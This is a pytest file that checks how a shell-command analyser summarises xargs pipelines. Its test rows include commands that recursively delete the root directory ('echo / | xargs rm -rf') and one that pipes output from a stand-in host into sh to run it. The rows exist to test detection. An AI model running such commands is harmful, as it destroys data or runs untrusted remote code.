"""xargs."""

from __future__ import annotations

import pytest
from support.summary import summaries

from enactd.effects.invocation import known, value
from enactd.effects.programs.xargs import input_words
from enactd.effects.values import Hole

ROWS = [
    ("echo / | xargs rm -rf", ["delete recursive /"]),
    ("echo a b c | xargs -n1 rm", ["delete ./a", "delete ./b", "delete ./c"]),
    ("printf 'a b\\n' | xargs -d '\\n' rm", ["delete ./a b"]),
    ("printf 'a\\0b' | xargs -0 rm", ["delete ./a", "delete ./b"]),
    ("echo / | xargs --replace bash -c 'rm -rf {}'", ["delete recursive /"]),
    ("echo / | xargs -I% bash -c 'rm -rf %'", ["delete recursive /"]),
    ("echo x | xargs -i rm {}", ["delete ./x"]),
    ("echo ok | xargs rm -- -rf", ["delete ./-rf", "delete ./ok"]),
    ("xargs -a list rm", ["content hidden ./list", "delete recursive ?<content of list>"]),
    ("xargs -t touch echo", ["append ./echo = ''", "append ?<standard input> = ''"]),
    ("curl -s x.example | xargs rm -rf", ["GET x.example", "delete recursive ?<output of curl>"]),
    ("curl -s x.example | xargs -I{} sh -c '{}'", ["GET x.example", "RunCode shell download <output of curl>"]),
    ("echo a | xargs", []),
    ("echo a | xargs -r -P 4 -t rm", ["delete ./a"]),
    ("echo \"'a b' c\" | xargs rm", ["delete ./a b", "delete ./c"]),
    ("xargs --help", []),
    ("echo a b | xargs -J % mv % /tmp", ["move ./a -> /tmp/a", "move ./b -> /tmp/b"]),
    ("printf 'a\\0b\\0' | xargs -0 rm", ["delete ./a", "delete ./b"]),
    ("find . -name '*.o' -print0 | xargs -0 -r rm -f", ["list all ./**/*.o", "delete ./*.o"]),
    ("echo a | xargs -I{} sh -c 'rm {}; rm {}.bak'", ["delete ./a", "delete ./a.bak"]),
]


@pytest.mark.parametrize(("command", "expected"), ROWS)
def test_xargs_rows(command: str, expected: list[str]) -> None:
    """Known input gives known words."""
    assert expected == summaries(command)


def test_input_words() -> None:
    """Quotes are read, delimiters are exact, lines stay whole."""
    assert ["a b", "c"] == [word.text for word in input_words(known("'a b' c\n"), None, by_line=False)]
    assert ["a b", "c"] == [word.text for word in input_words(known("a b\0c\0"), "\0", by_line=False)]
    assert ["a b", "c"] == [word.text for word in input_words(known(" a b \nc\n"), None, by_line=True)]
    assert ["it's"] == [word.text for word in input_words(known("it's"), None, by_line=False)]


def test_unknown_input_is_one_word() -> None:
    """A hole in the input stays a word of its own."""
    words = input_words(value("a ", Hole("x"), "b c"), None, by_line=False)
    assert ["a", None, "c"] == [word.text for word in words]
